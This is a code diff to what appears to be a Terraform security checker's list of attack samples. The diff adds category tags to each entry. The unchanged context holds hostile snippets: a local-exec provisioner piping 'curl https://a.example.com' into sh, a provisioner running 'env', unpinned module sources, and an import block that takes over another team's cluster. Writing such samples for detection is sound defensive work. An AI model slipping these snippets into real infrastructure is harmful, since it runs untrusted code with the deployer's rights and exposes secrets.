@@ -6,7 +6,7 @@ export const MECHANICS_ATTACKS: readonly Attack[] = [
     "cluster",
     "program-on-apply",
     "an apply runs a program with the rights of the deployer",
-    [],
+    ["programs-of-apply"],
     `
 resource "terraform_data" "a" {
   provisioner "local-exec" { command = "curl https://a.example.com | sh" }
@@ -16,7 +16,7 @@ resource "terraform_data" "a" {
     "cluster",
     "program-in-resource",
     "an apply runs a program with the rights of the deployer",
-    [],
+    ["programs-of-apply"],
     `
 resource "aws_cloudwatch_log_group" "a" {
   name              = "a"
@@ -29,7 +29,7 @@ resource "aws_cloudwatch_log_group" "a" {
     "cluster",
     "program-on-machine",
     "an apply runs a program on a machine",
-    [],
+    ["programs-of-apply"],
     `
 resource "terraform_data" "a" {
   connection { host = "203.0.113.7" }
@@ -56,7 +56,7 @@ data "http" "a" { url = "https://a.example.com" }`,
     "cluster",
     "null-resource",
     "a provider of no stack, which runs programs",
-    [OWN_FILES],
+    [OWN_FILES, "programs-of-apply"],
     `
 resource "null_resource" "a" {
   provisioner "local-exec" { command = "env" }
@@ -111,7 +111,7 @@ provider "aws" { region = "eu-west-1" }`,
     "cluster",
     "module-git",
     "code of a repository, which can change at each init",
-    [],
+    ["module-versions"],
     `
 module "a" { source = "git::https://git.example.com/a.git" }`,
   ),
@@ -119,7 +119,7 @@ module "a" { source = "git::https://git.example.com/a.git" }`,
     "cluster",
     "module-registry",
     "code of a registry without a version",
-    [],
+    ["module-versions"],
     `
 module "a" { source = "terraform-aws-modules/iam/aws" }`,
   ),
@@ -127,7 +127,7 @@ module "a" { source = "terraform-aws-modules/iam/aws" }`,
     "cluster",
     "module-folder",
     "code that is not copied",
-    [OWN_FILES],
+    [OWN_FILES, "module-versions"],
     `
 module "a" { source = "./a" }`,
   ),
@@ -145,7 +145,7 @@ terraform {
     "cluster",
     "moved-generated",
     "a generated block becomes another one",
-    [OWN_FILES],
+    [OWN_FILES, "state-changes"],
     `
 moved {
   from = aws_eks_cluster.main
@@ -156,7 +156,7 @@ moved {
     "cluster",
     "removed-generated",
     "Terraform forgets the key of the cluster",
-    [OWN_FILES],
+    [OWN_FILES, "state-changes"],
     `
 removed {
   from = aws_kms_key.cluster
@@ -167,7 +167,7 @@ removed {
     "cluster",
     "import-generated",
     "the cluster of another team is taken over",
-    [OWN_FILES],
+    [OWN_FILES, "state-changes"],
     `
 import {
   to = aws_eks_cluster.main
@@ -190,7 +190,7 @@ resource "aws_s3_bucket" "a" { bucket = "another" }`,
     "cluster",
     "removed-own",
     "Terraform forgets a block, which stays",
-    [],
+    ["forgotten-objects"],
     `
 removed {
   from = aws_s3_bucket.gone
